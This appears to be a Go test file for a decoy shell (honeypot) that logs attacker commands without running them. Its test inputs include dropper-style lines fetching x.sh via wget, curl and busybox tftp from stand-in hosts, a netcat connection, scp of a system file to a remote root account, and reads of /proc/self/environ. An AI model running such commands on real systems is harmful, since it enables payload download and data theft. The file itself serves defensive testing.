package network_test

import (
	"go/parser"
	"go/token"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"

	"gait/decoy/visit"
)

// catcher keeps what is told of a session.
type catcher struct {
	mu     sync.Mutex
	events []visit.Event
}

// Caught keeps an event.
func (c *catcher) Caught(e visit.Event) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.events = append(c.events, e)
}

// TestTold looks at what is told of those that were to be reached.
func TestTold(t *testing.T) {
	for line, want := range map[string]string{
		"wget http://user:pass@192.0.2.9:81/x.sh": "http://user:pass@192.0.2.9:81/x.sh failed",
		"wget foo://x":                                "foo://x refused",
		"wget http://127.0.0.1:99999/":                "http://127.0.0.1:99999/ refused",
		"curl -s 192.0.2.9/x":                         "192.0.2.9/x failed",
		"curl -s 'http://[zz]/'":                      "http://[zz]/ refused",
		"busybox wget http://192.0.2.9/x":             "http://192.0.2.9/x failed",
		"busybox tftp -g -r x 192.0.2.9":              "tftp://192.0.2.9/x failed",
		"busybox tftp 192.0.2.9 -c get x":             "tftp://192.0.2.9/x refused",
		"busybox ftpget 192.0.2.9 a b":                "ftp://192.0.2.9/b failed",
		"busybox nc 192.0.2.9 80":                     "tcp://192.0.2.9:80 failed",
		"busybox telnet 192.0.2.9 2323":               "telnet://192.0.2.9:2323 failed",
		"ssh -p 2222 root@192.0.2.9":                  "ssh://192.0.2.9:2222 failed",
		"scp -P 2222 /etc/hostname root@192.0.2.9:/x": "ssh://192.0.2.9:2222 failed",
	} {
		synctest.Test(t, func(t *testing.T) {
			_, _, caught := run(t, "unreachable", line)
			var got []string
			for _, e := range caught {
				if e.Kind == visit.Download {
					got = append(got, e.Text+" "+e.Fields["outcome"])
				}
			}
			if !slices.Equal(got, []string{want}) {
				t.Errorf("%s: told %q, want %q", line, got, want)
			}
		})
	}
}

// TestPlaceholder fetches where there is something made up to be had.
func TestPlaceholder(t *testing.T) {
	for _, line := range []string{"wget -q http://a.example/x.sh", "curl -s -o x.sh http://a.example/x.sh", "busybox wget -q http://a.example/x.sh", "wget -q http://192.0.2.9/x.sh", "curl -sO 'http://a.example/x.sh?y'", "busybox tftp -g -r x.sh 192.0.2.9"} {
		synctest.Test(t, func(t *testing.T) {
			if a, _, _ := run(t, "placeholder", line+" && cat x.sh | tail -1"); a.Out != "</html>\n" || a.Err != "" {
				t.Errorf("%s: %q %q", line, a.Out, a.Err)
			}
		})
	}
}

// TestNothingOfTheHost reads files by their URLs: they are the machine's.
func TestNothingOfTheHost(t *testing.T) {
	for line, want := range map[string]string{
		"curl -s file:///etc/hostname":                      "web01\n",
		"curl -s file://localhost/etc/hostname":             "web01\n",
		"curl -s file:///proc/self/environ | grep -c GO; :": "0\n",
		"wget -i /etc/hostname -O - 2>&1 | grep -c http://": "1\n",
	} {
		synctest.Test(t, func(t *testing.T) {
			if a, _, _ := run(t, "unreachable", line); a.Out != want {
				t.Errorf("%s: %q %q, want %q", line, a.Out, a.Err, want)
			}
		})
	}
}

// TestImports holds the package to what it may be built with: nothing that
// opens a connection or a file of the host.
func TestImports(t *testing.T) {
	list, err := os.ReadDir(".")
	if err != nil {
		t.Fatal(err)
	}
	files := 0
	for _, e := range list {
		if !strings.HasSuffix(e.Name(), ".go") || strings.HasSuffix(e.Name(), "_test.go") {
			continue
		}
		files++
		f, err := parser.ParseFile(token.NewFileSet(), e.Name(), nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, i := range f.Imports {
			if slices.Contains([]string{`"os"`, `"os/exec"`, `"syscall"`, `"net/http"`, `"unsafe"`}, i.Path.Value) {
				t.Errorf("%s imports %s", e.Name(), i.Path.Value)
			}
		}
		text, err := os.ReadFile(e.Name())
		if err != nil {
			t.Fatal(err)
		}
		for _, word := range []string{"net.Dial", "net.Listen", "net.Lookup", "net.Resolver", "net.Interfaces"} {
			if strings.Contains(string(text), word) {
				t.Errorf("%s has %s", e.Name(), word)
			}
		}
	}
	if files < 15 {
		t.Errorf("only %d files", files)
	}
}
